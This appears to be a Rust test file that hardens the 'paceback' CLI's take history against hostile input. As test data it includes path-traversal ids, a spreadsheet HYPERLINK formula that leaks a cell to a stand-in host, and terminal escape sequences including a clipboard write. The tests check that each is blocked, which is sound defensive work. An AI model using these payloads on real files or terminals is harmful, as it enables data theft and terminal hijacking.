//! The history against hostile and damaged inputs (issue 13): take files whose id is a path,
//! what a `kill -9` during a save leaves, numbers JSON cannot hold, damaged databases, repairs
//! in the same second, spreadsheet formulas and terminal control characters in what paceback
//! prints or exports, and the permissions of what it writes.

mod common;

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use common::{json, paceback, repo};

fn fixture(name: &str) -> PathBuf {
    repo().join("tests/fixtures").join(name)
}

/// Analyze a transcript into the history of `home`.
fn analyze(home: &Path, transcript: &Path, question: &str) {
    paceback(home)
        .args(["analyze", "--question", question, "--transcript"])
        .arg(transcript)
        .assert()
        .success();
}

fn history_json(home: &Path) -> Vec<serde_json::Value> {
    common::history_takes(home)
}

fn recordings(home: &Path) -> PathBuf {
    home.join("recordings")
}

/// The one saved take's record, as JSON.
fn only_record(home: &Path) -> serde_json::Value {
    let files: Vec<PathBuf> = std::fs::read_dir(recordings(home))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    assert_eq!(files.len(), 1, "{files:?}");
    json(&std::fs::read(&files[0]).unwrap())
}

/// Write `record` as the take file `id.json`, with its id set to `claimed_id`.
fn plant(home: &Path, record: &serde_json::Value, id: &str, claimed_id: &str) -> PathBuf {
    let mut record = record.clone();
    record["id"] = claimed_id.into();
    record["audio"] = serde_json::Value::Null;
    let path = recordings(home).join(format!("{id}.json"));
    std::fs::write(&path, serde_json::to_vec_pretty(&record).unwrap()).unwrap();
    path
}

fn age(path: &Path, by: Duration) {
    let f = std::fs::File::options().write(true).open(path).unwrap();
    f.set_modified(SystemTime::now() - by).unwrap();
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

#[test]
fn a_take_file_whose_id_climbs_out_cannot_make_reanalyze_write_outside() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    analyze(
        &home,
        &fixture("product_sense.transcript.json"),
        "Design a better alarm clock",
    );
    let good = only_record(&home);
    // From a shared folder or a restored backup: a file named like a take, whose id is a path.
    plant(&home, &good, "2020-01-01_00-00-00", "../../x");
    // An index from before ids were checked can hold such an id too.
    let mut bad: paceback::history::TakeRecord = serde_json::from_value(good.clone()).unwrap();
    bad.id = "../../y".into();
    bad.audio = None;
    paceback::history::Index::open(&home.join("history.db"))
        .unwrap()
        .insert(&bad)
        .unwrap();

    let out = paceback(&home)
        .args(["reanalyze", "--all"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("skipped take") && err.contains("not a take id"),
        "{err}"
    );
    for name in ["x.json", "y.json", ".x.json.part", ".y.json.part"] {
        assert!(
            !tmp.path().join(name).exists(),
            "{name} was written outside"
        );
    }
    let outside: Vec<_> = std::fs::read_dir(tmp.path()).unwrap().flatten().collect();
    assert_eq!(outside.len(), 1, "only the home: {outside:?}");

    // Repair names the file and leaves it alone; the good take is listed.
    let out = paceback(&home)
        .args(["history", "--repair"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("2020-01-01_00-00-00.json") && text.contains("is not its file name"),
        "{text}"
    );
    assert_eq!(history_json(&home).len(), 1);
}

#[test]
fn take_ids_have_the_documented_form() {
    use paceback::history::take::is_take_id;
    for ok in [
        "2026-11-23_18-40-12",
        "2026-11-23_18-40-12_1",
        "2026-11-23_18-40-12_42",
    ] {
        assert!(is_take_id(ok), "{ok}");
    }
    for bad in [
        "",
        "../../x",
        "2026-11-23_18-40-12/../../x",
        "2026-11-23_18-40-12_",
        "2026-11-23_18-40-12_1/..",
        "2026-11-23 18-40-12",
        "2026-11-23_18-40-1",
        "2026-11-23_18-40-12.json",
        "２026-11-23_18-40-12",
    ] {
        assert!(!is_take_id(bad), "{bad}");
    }
}

#[test]
fn crash_leftovers_are_swept_and_recordings_kept() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    analyze(
        home,
        &fixture("product_sense.transcript.json"),
        "Design a better alarm clock",
    );
    let dir = recordings(home);
    let hour = Duration::from_secs(3600);
    let file = |name: &str, content: &str, old: bool| {
        let p = dir.join(name);
        std::fs::write(&p, content).unwrap();
        if old {
            age(&p, 2 * hour);
        }
        p
    };
    // A process that is gone.
    let mut child = std::process::Command::new("true").spawn().unwrap();
    let dead = child.id();
    child.wait().unwrap();
    let me = std::process::id();
    let swept = [
        file(
            ".2020-01-01_00-00-00.json.part",
            &format!("paceback claim, pid {dead}\n"),
            false,
        ),
        file("2020-01-01_00-00-01.json", "", true),
        file(".2020-01-01_00-00-02.json.Ab12Cd.part", "{\"half", true),
        file(".2020-01-01_00-00-03.wav.copy.part", "RIFF", true),
        file(".2020-01-01_00-00-07.json.part", "", true),
    ];
    let kept = [
        file(".2020-01-01_00-00-04.json.Ab12Cd.part", "{\"half", false),
        file(
            ".2020-01-01_00-00-05.json.part",
            &format!("paceback claim, pid {me}\n"),
            true,
        ),
        file("2020-01-01_00-00-06.wav", "RIFF and some audio", true),
        file("2020-01-01_00-00-08.json", "", false),
        file("notes.txt", "mine", true),
    ];
    let out = paceback(home)
        .args(["history", "--repair"])
        .output()
        .unwrap();
    assert!(out.status.success());
    for p in &swept {
        assert!(!p.exists(), "{} was left", p.display());
    }
    for p in &kept {
        assert!(p.exists(), "{} was removed", p.display());
    }
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("2020-01-01_00-00-06.wav"),
        "a recording without a record is offered: {text}"
    );
    assert_eq!(history_json(home).len(), 1, "the finished take is kept");
}

#[test]
fn a_take_missing_from_the_index_is_added_without_repair() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    analyze(
        home,
        &fixture("product_sense.transcript.json"),
        "Design a better alarm clock",
    );
    let record = only_record(home);
    // Saved as a file, then killed before its index row: newer than every indexed take ...
    plant(home, &record, "2030-01-01_00-00-00", "2030-01-01_00-00-00");
    assert_eq!(history_json(home).len(), 2);
    // ... or older (the count differs).
    plant(home, &record, "2020-01-01_00-00-00", "2020-01-01_00-00-00");
    let ids: Vec<String> = history_json(home)
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    assert!(ids.contains(&"2020-01-01_00-00-00".to_string()), "{ids:?}");
    assert_eq!(ids.len(), 3);
}

#[test]
fn word_times_near_the_largest_number_do_not_make_a_take_unreadable() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let mut t = json(&std::fs::read(fixture("product_sense.transcript.json")).unwrap());
    let words = t["words"].as_array_mut().unwrap();
    let n = words.len();
    for (i, w) in words[n - 5..].iter_mut().enumerate() {
        w["start_s"] = (1e306 * (i + 1) as f64).into();
        w["end_s"] = (1e306 * (i + 1) as f64).into();
    }
    t["duration_s"] = 1e307.into();
    let path = home.join("huge.json");
    std::fs::write(&path, serde_json::to_vec(&t).unwrap()).unwrap();
    // A transcript claiming such times is damaged: bad input, nothing saved.
    paceback(home)
        .args(["analyze", "--transcript"])
        .arg(&path)
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "a recording lasts 0 to 86400 seconds",
        ));
    assert_eq!(history_json(home).len(), 0);
    paceback(home)
        .args(["analyze", "--transcript"])
        .arg(fixture("product_sense.transcript.json"))
        .assert()
        .success();
    assert_eq!(history_json(home).len(), 1);
    paceback(home).args(["show", "latest"]).assert().success();
    let record = only_record(home);
    assert!(
        !serde_json::to_string(&record["analysis"]["answer"])
            .unwrap()
            .contains("null"),
        "saved finite: {}",
        record["analysis"]["answer"]
    );

    // A take saved by an earlier version with `null` where numbers belong is read (as 0).
    let mut old = record.clone();
    old["analysis"]["answer"]["end_s"] = serde_json::Value::Null;
    old["analysis"]["steps"][0]["duration_s"] = serde_json::Value::Null;
    old["transcript"]["words"][0]["end_s"] = serde_json::Value::Null;
    plant(home, &old, "2020-01-01_00-00-00", "2020-01-01_00-00-00");
    assert_eq!(history_json(home).len(), 2);
    paceback(home)
        .args(["show", "2020-01-01_00-00-00"])
        .assert()
        .success();
    paceback(home)
        .args(["reanalyze", "--all"])
        .assert()
        .success();
}

/// `paceback history` fails with the `--repair` hint, and the repair brings the takes back.
fn assert_damaged_then_repaired(home: &Path) {
    let out = paceback(home).arg("history").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("damaged") && err.contains("paceback history --repair"),
        "{err}"
    );
    paceback(home)
        .args(["history", "--repair"])
        .assert()
        .success();
    assert_eq!(history_json(home).len(), 1);
}

#[test]
fn a_dropped_table_or_a_folder_for_a_database_gives_the_repair_hint() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let transcript = fixture("product_sense.transcript.json");
    analyze(home, &transcript, "Design a better alarm clock");
    let db = home.join("history.db");
    for table in ["documents", "takes"] {
        rusqlite::Connection::open(&db)
            .unwrap()
            .execute_batch(&format!("PRAGMA foreign_keys = OFF; DROP TABLE {table};"))
            .unwrap();
        assert_damaged_then_repaired(home);
    }

    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(home.join(format!("history.db{suffix}")));
    }
    std::fs::create_dir(&db).unwrap();
    assert_damaged_then_repaired(home);
}

#[test]
fn two_repairs_in_one_second_keep_both_set_aside_databases() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    analyze(
        home,
        &fixture("product_sense.transcript.json"),
        "Design a better alarm clock",
    );
    for _ in 0..3 {
        paceback(home)
            .args(["history", "--repair"])
            .assert()
            .success();
    }
    let kept: Vec<PathBuf> = std::fs::read_dir(home)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().ends_with(".bak"))
        .collect();
    assert_eq!(kept.len(), 3, "{kept:?}");
    for aside in &kept {
        assert!(aside.join("history.db").is_file(), "{}", aside.display());
    }
}

#[test]
fn analyze_fails_when_the_take_cannot_be_saved_and_keeps_the_report() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    std::fs::write(home.join("recordings"), "a file where the folder belongs").unwrap();
    let out = paceback(home)
        .args(["analyze", "--json", "--transcript"])
        .arg(fixture("product_sense.transcript.json"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(json(&out.stdout)["schema"], "paceback.analysis/1");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not saved to your history"), "{err}");
}

#[test]
fn csv_export_neutralizes_formulas() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let formula = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"click\")";
    analyze(home, &fixture("product_sense.transcript.json"), formula);
    analyze(home, &fixture("product_sense.transcript.json"), "@SUM(1+1)");
    let out = paceback(home).args(["export", "--csv"]).output().unwrap();
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let col = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "question")
        .unwrap();
    let questions: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[col].to_string())
        .collect();
    assert_eq!(questions, [format!("'{formula}"), "'@SUM(1+1)".to_string()]);
}

#[test]
fn control_characters_never_reach_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    let mut t = json(&std::fs::read(fixture("product_sense.transcript.json")).unwrap());
    t["words"][3]["w"] = "\u{1b}]52;c;ZXZpbA==\u{7}".into();
    t["words"][9]["w"] = "\u{1b}[2J\u{9b}31m".into();
    let path = home.join("t.json");
    std::fs::write(&path, serde_json::to_vec(&t).unwrap()).unwrap();
    let question = "Design\u{1b}[2J an alarm\u{1b}]52;c;aGk=\u{7} clock\u{85}";
    let analyzed = paceback(home)
        .args([
            "analyze",
            "-v",
            "--explain",
            "--question",
            question,
            "--transcript",
        ])
        .arg(&path)
        .output()
        .unwrap();
    assert!(analyzed.status.success());
    let show = paceback(home)
        .args(["show", "latest", "-v"])
        .output()
        .unwrap();
    let history = paceback(home).arg("history").output().unwrap();
    for (what, out) in [
        ("analyze", &analyzed),
        ("show", &show),
        ("history", &history),
    ] {
        let text = String::from_utf8_lossy(&out.stdout);
        let bad: Vec<char> = text
            .chars()
            .filter(|c| c.is_control() && *c != '\n')
            .collect();
        assert!(bad.is_empty(), "{what} printed {bad:?}:\n{text}");
    }
    let text = String::from_utf8_lossy(&analyzed.stdout);
    assert!(
        text.contains("Design\\u{1b}[2J an alarm"),
        "shown escaped: {text}"
    );
}

#[cfg(unix)]
#[test]
fn html_pages_are_private() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path();
    analyze(
        home,
        &fixture("product_sense.transcript.json"),
        "Design a better alarm clock",
    );
    let (show, progress) = (home.join("show.html"), home.join("progress.html"));
    paceback(home)
        .args(["show", "latest", "--html"])
        .arg(&show)
        .assert()
        .success();
    paceback(home)
        .args(["progress", "--html"])
        .arg(&progress)
        .assert()
        .success();
    assert_eq!(mode(&show), 0o600);
    assert_eq!(mode(&progress), 0o600);
}

#[cfg(unix)]
#[test]
fn an_existing_home_keeps_its_permissions_and_a_new_one_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    // A shared folder with the sticky bit, and a home that is a symlink to a folder.
    let sticky = tmp.path().join("sticky");
    let target = tmp.path().join("target");
    for (dir, m) in [(&sticky, 0o1777), (&target, 0o755)] {
        std::fs::create_dir(dir).unwrap();
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(m)).unwrap();
    }
    let link = tmp.path().join("link");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    for home in [&sticky, &link] {
        analyze(
            home,
            &fixture("product_sense.transcript.json"),
            "Design a better alarm clock",
        );
        paceback(home).arg("history").assert().success();
    }
    assert_eq!(mode(&sticky), 0o1777, "the sticky bit stays");
    assert_eq!(mode(&target), 0o755, "a symlink's target is not changed");
    assert_eq!(
        mode(&link.join("recordings")),
        0o700,
        "what paceback creates is private"
    );
    let fresh = tmp.path().join("new/home");
    paceback(&fresh).arg("history").assert().success();
    assert_eq!(mode(&fresh), 0o700);
    assert_eq!(mode(&fresh.join("recordings")), 0o700);
}
